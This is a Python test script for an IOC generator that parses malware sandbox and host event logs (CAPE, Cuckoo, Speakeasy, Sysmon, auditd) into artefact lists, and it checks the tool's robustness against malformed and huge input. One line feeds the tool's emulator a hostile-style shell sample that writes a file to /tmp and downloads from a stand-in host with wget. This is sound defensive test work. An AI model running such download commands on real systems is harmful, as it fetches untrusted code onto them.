#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Behaviour logs of every form tell the same story, and hostile ones are read to their end within bounds.

usage: logs.py BUILD
"""
import gzip, json, os, resource, subprocess, sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.realpath(__file__)), '..', 'support'))
import behaviour as b
import schema
from konseki import BUILD, KONSEKI, config, konseki, scratch
from tap import Tap

IOC = os.path.join(BUILD, 'control', 'iocgen', 'konseki-ioc')
FOLDER = scratch()
tap = Tap()


def convert(text, *options, name='log', limit=None):
    """(samples, exit code, complaints) of a log with these bytes."""
    path = os.path.join(FOLDER, name)
    with open(path, 'wb') as file:
        file.write(text if isinstance(text, bytes) else text.encode())
    done = subprocess.run([IOC, 'convert', *options, path], capture_output=True, timeout=120,
                          preexec_fn=limit and (lambda: resource.setrlimit(resource.RLIMIT_AS, (limit, limit))))
    return [json.loads(line) for line in done.stdout.splitlines()], done.returncode, done.stderr.decode()


def leaves(sample):
    return sorted((a['kind'], a['action'], a['value']) for a in sample['artefacts'])


def one(text, wanted, name, **facts):
    samples, code, why = convert(text)
    if tap.ok(len(samples) == 1 and code == 0, f'{name}: one sample', f'{len(samples)}, {code}, {why}'):
        tap.equal(leaves(samples[0]), sorted(set(wanted)), f'{name}: what it left')
        tap.equal({k: samples[0][k] for k in facts}, facts, f'{name}: what it is')


for pretty in (None, 4):
    one(json.dumps(b.cape(), indent=pretty), b.CAPE_LEAVES, 'CAPE', sample=b.SHA256, family='Zyx', label='malware', date='2024-05-06', source='cape')
one(gzip.compress(json.dumps(b.cape()).encode()), b.CAPE_LEAVES, 'CAPE, compressed', sample=b.SHA256)
one(json.dumps(b.cuckoo2()), b.CUCKOO2_LEAVES, 'Cuckoo 2', sample=b.SHA256, date='2024-05-06', source='cuckoo', label=None)
one(json.dumps({'files_created': ['c:\\x'], 'mutexes_created': ['m'], 'regs_created': [], 'processes_injected': ['p']}),
    [('file', 'create', 'c:\\x'), ('mutex', 'create', 'm'), ('process', 'open', 'p')], 'a sandbox summary', sample='log')
old = b.cape()
old['behavior']['summary'] = {'files': ['C:\\f'], 'keys': ['HKLM\\k'], 'mutexes': ['m']}
old['behavior']['enhanced'] = old['behavior']['processes'] = old['network'] = []
one(json.dumps(old), [('file', 'open', 'C:\\f'), ('registry', 'open', 'HKLM\\k'), ('mutex', 'create', 'm')],
    'Cuckoo 1, whose lists do not say what was done')
for shape in (1, 2, 3):
    one(json.dumps(b.speakeasy(shape), indent=4), b.SPEAKEASY_LEAVES, f'Speakeasy, shape {shape}', sample=b.SHA256, date='2024-05-06', source='speakeasy')

for form in b.SYSMON_FORMS:
    text = b.sysmon_lines(form)
    one(text, b.STORY + b.BESIDES, f'Sysmon, {form}', source='windows events', date='2024-05-06')
    records = [json.loads(line) for line in text.splitlines()]
    one(json.dumps(records, indent=1), b.STORY + b.BESIDES, f'Sysmon, {form}, in an array', sample='log')
    wanted = [set(), set(), set()]
    for i, event in enumerate(b.sysmon()):
        found, _, _ = convert(b.lines([b.SYSMON_FORMS[form](*event)]), name='single')
        wanted[b.tree_of(i)] |= {leaf for s in found for leaf in leaves(s)}
    samples, code, why = convert(text, '--by-process')
    tap.equal([leaves(s) for s in samples], [sorted(w) for w in wanted], f'Sysmon, {form}: a sample a tree of processes')
    tap.equal([s['sample'] for s in samples], ['log#1/setup.exe', 'log#2/notepad.exe', 'log#3/svchost.exe'], f'Sysmon, {form}: named by its first program')
one(b.lines({'hits': 1, '_index': 'x', '_source': b.beat(e, f)} for e, f in b.sysmon()), b.STORY + b.BESIDES, 'Sysmon, out of a search engine')

for form, text in b.AUDIT_FORMS.items():
    one(text(), b.AUDIT_LEAVES, f'auditd, {form}', source='auditd', date='2024-05-06')

# our own emulation
conf = config(FOLDER)
done = konseki('emulate', '-c', conf, '--language', 'shell', '--json', '-', input=b'echo x > /tmp/dropped; wget -q http://192.0.2.9/a', stdin=None)
report = json.loads(done.stdout)
one(done.stdout, leaves(convert(json.dumps(report['behaviour']) + '\n', name='plain')[0][0]), 'our own emulation',
    sample=report['behaviour']['sample'])

schema.check(tap, 'sample', [s for t in (json.dumps(b.cape()), b.sysmon_lines('flat')) for s in convert(t)[0]], 'the plain form', broken={'sample': ''})

# what is broken
text = b.sysmon_lines('flat').splitlines(True)
text[3:3] = ['{"EventID": 11, "SourceName": "Microsoft-Win\n', 'garbage\n', '{"EventID": 1,\n', '[]]\n', '\x00\x01\n']
samples, code, why = convert(''.join(text))
tap.equal((len(samples), code), (1, 1), 'broken records are named and passed over')
tap.equal(leaves(samples[0]), sorted(b.STORY + b.BESIDES), 'and what stands around them is read')
tap.ok(all(f':{n}: ' in why for n in (4, 5, 7)), 'by their lines', why)
whole = json.dumps(b.cape())
for cut in (0.5, 0.9):
    samples, code, why = convert(whole[:int(len(whole) * cut)])
    tap.ok(code == 1 and len(samples) <= 1 and set(map(tuple, samples and leaves(samples[0]))) <= set(b.CAPE_LEAVES), f'a report cut at {cut} is bad, not fatal', why)
samples, code, why = convert('{"behavior":' + '[' * 5000 + ']' * 5000 + '}')
tap.ok(code == 1, 'too many levels are refused', why)
samples, code, why = convert('no log at all\n')
tap.ok(code == 1 and not samples and 'no behaviour log that we know' in why, 'what is no log is named', why)

# a million artefacts, most of them alike, and a report of 200 MB in 200 MB of memory
events = (b.flat(11, {'ProcessId': i % 5000, 'Image': 'C:\\x.exe', 'TargetFilename': f'C:\\data\\{i % 30000}.bin'}) for i in range(1000000))
path = os.path.join(FOLDER, 'many')
with open(path, 'w') as file:
    for e in events:
        file.write('{"EventID":11,"SourceName":"Microsoft-Windows-Sysmon","Hostname":"W1","ProcessId":"%s","Image":"C:\\\\x.exe","TargetFilename":"%s"}\n'
                   % (e['ProcessId'], e['TargetFilename'].replace('\\', '\\\\')))
done = subprocess.run([IOC, 'convert', path], capture_output=True, timeout=120, preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_AS, (300 << 20,) * 2))
samples = [json.loads(line) for line in done.stdout.splitlines()]
tap.equal((done.returncode, [len(s['artefacts']) for s in samples]), (0, [30000]), 'a million artefacts in bounded memory')
os.unlink(path)
tap.done()
